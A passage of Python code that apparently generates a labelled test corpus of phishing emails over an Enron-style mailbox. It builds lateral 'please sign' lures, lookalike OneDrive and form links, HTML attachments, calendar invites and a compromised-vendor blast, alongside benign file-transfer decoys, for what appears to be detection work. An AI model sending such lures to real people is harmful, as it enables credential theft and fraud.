                                      "Files from %s" % name]))
        emit(box, "attack", "cloud-token", shape, when, c, hdr, body, token=token)


def lateral(box, n):
    shapes = ["please-sign", "foreign-onedrive", "html-attachment", "hr-form-alt",
              "calendar-invite"]
    rng = box.rng("lateral")
    times = box.window(0.3, 0.97, lambda t: len(box.h.staff(t)) >= 3)
    for i, t in enumerate(spaced(times, n, rng)):
        when = t + rng.randrange(600, 4 * 3600)
        shape = shape_of(box, shapes, i)
        staff = [s for s in box.h.staff(t) if not corpus.same_person(s, box.owner)]
        sender = rng.choice(staff)
        never = [a for a in box.h.colleagues(t) if a not in box.h.wrote_to[sender]
                 and not corpus.same_person(a, sender) and not corpus.same_person(a, box.owner)]
        k = rng.randrange(19, 40)
        recipients = [box.owner] + rng.sample(never, min(k, len(never)))
        rng.shuffle(recipients)
        name = display(box, sender) or sender.split("@")[0].replace(".", " ").title()
        dom = attacker_domain(rng, box)
        if shape == "foreign-onedrive":
            url = "https://%s-my.sharepoint.com/:b:/g/personal/%s/E%s" % (
                rng.choice(["enr0n", "ecorp", "enrononline"]) + tok(rng, 3), tok(rng, 6),
                tok(rng, 14))
        elif shape == "hr-form-alt":
            url = "https://docs.google.com/forms/d/e/1FAIpQLS%s/viewform" % tok(rng, 20)
        else:
            url = "https://%s/%s/%s" % (dom, tok(rng, 4), tok(rng, 10))
        subj = rng.choice(["Please review and sign: 2001 compensation letter",
                           "Updated org chart - action required", "Benefits enrollment closes "
                           "Friday", "Shared document: Q3 targets"])
        text = ("All,\n\nPlease review the document below and sign by end of day; HR needs "
                "everyone's acknowledgement.\n\n%s\n\nThanks,\n%s\n" % (url, name))
        if shape == "html-attachment":
            body = mixed(rng, [Part("text/plain", text.replace(url, "(attached)"), "us-ascii",
                                    "7bit"),
                               attachment("text/html", "Acknowledgement.htm",
                                          html_attachment(url, subj))])
        elif shape == "hr-form-alt":
            body = alt(rng, text.replace(url, "(form link in the HTML version)"), html_page(
                ["All,", "Please complete the enrollment form by Friday.",
                 '<a href="%s">Open enrollment form</a>' % url, name]))
        elif shape == "calendar-invite":
            body = calendar_body(rng, when, (name, sender), box.owner, "Mandatory: policy "
                                 "acknowledgement", "Review and sign the policy before the "
                                 "meeting", url, text)
        else:
            body = Part("text/plain", text, "us-ascii", "quoted-printable")
        split = len(recipients) // 2 if i % 2 else len(recipients)
        hdr = headers_for(box, rng, when, mime.mailbox(name, sender), ", ".join(recipients[:split]),
                          subj, cc=", ".join(recipients[split:]) or None)
        emit(box, "attack", "lateral", shape, when, sender, hdr, body,
             recipients=len(recipients))


def adoption(box):
    """15 established partners of 10 organisations start linking one new
    file-transfer platform within two weeks."""
    rng = box.rng("adoption")
    n = len(box.h.mails)
    best = None
    for m in box.h.mails[int(0.6 * n):int(0.97 * n):25]:
        cs = box.h.correspondents(m.date)
        orgs = {}
        for c in cs:
            orgs.setdefault(corpus.registrable(c.split("@")[1]), []).append(c)
        if len(cs) >= 15 and len(orgs) >= 10:
            best = (m.date, orgs)
            break
    if best is None:
        return
    t0, orgs = best
    names = sorted(orgs, key=lambda o: (-len(orgs[o]), o))[:10]
    adopters = [orgs[o][0] for o in names]
    extra = [c for o in names for c in orgs[o][1:]]
    rest = [c for o in sorted(orgs) if o not in names for c in orgs[o]]
    adopters += (extra + rest)[:15 - len(adopters)]
    rng.shuffle(adopters)
    for pos, c in enumerate(adopters, 1):
        when = t0 + int((pos - 1) * 13.5 * DAY / len(adopters)) + rng.randrange(600, 6 * 3600)
        name = display(box, c)
        url = "https://spaces.hightail.com/receive/%s" % tok(rng, 10, "abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789")
        text = ("Vince,\n\nThe files are too big for e-mail now, so we've started using "
                "Hightail for transfers. You can pick them up here:\n%s\n\nBest,\n%s\n" % (
                    url, name))
        body = Part("text/plain", text, "us-ascii", "7bit") if pos % 2 else alt(
            rng, text, html_page(text.replace(url, '<a href="%s">%s</a>' % (url, url))
                                 .split("\n\n")))
        hdr = headers_for(box, rng, when, mime.mailbox(name, c), box.owner,
                          rng.choice(["Files for the model review", "Data files", "Transfer"]))
        emit(box, "adoption", "adoption", "plain" if pos % 2 else "alt", when, c, hdr, body,
             position=pos, organisation=corpus.registrable(c.split("@")[1]))


def compromised_vendor(box):
    """An established vendor repeats one link to 40 colleagues over ten days."""
    rng = box.rng("compromised-vendor")
    n = len(box.h.mails)
    slot = None
    for m in box.h.mails[int(0.75 * n):]:
        cs = box.h.correspondents(m.date)
        if cs:
            slot = (m.date, cs)
            break
    if slot is None:
        return
    t0, cs = slot
    c = rng.choice(cs)
    people = [a for a in box.h.colleagues(t0) if not corpus.same_person(a, box.owner)]
    recipients = [box.owner] + rng.sample(people, 39)
    url = "https://statement-view-%d.netlify.app/approved.html" % rng.randrange(1000, 9999)
    name = display(box, c)
    org = org_label(c).upper()
    for pos, r in enumerate(recipients, 1):
        when = t0 + int((pos - 1) * 10 * DAY / 40) + rng.randrange(300, 3600)
        text = ("Hello,\n\nPlease find the new approved statement from %s here:\n%s\n\n"
                "Thank you,\n%s\n" % (org, url, name))
        hdr = headers_for(box, rng, when, mime.mailbox(name, c), r,
                          "New Approved Statement From %s" % org)
        emit(box, "vendor", "compromised vendor", "plain", when, c, hdr,
             Part("text/plain", text, "us-ascii", "7bit"), position=pos)


FAMILY_BUILDERS = {
    "masked-link": masked,
    "hijack-participant": hijack_participant,
    "hijack-outsider": hijack_outsider,
    "bcc-new-sender": bcc_new_sender,
    "vendor-new-platform": vendor_new_platform,
    "new-tenant": new_tenant,
    "registrable-lookalike": registrable_lookalike,
    "cloud-token": cloud_token,
    "lateral": lateral,
}
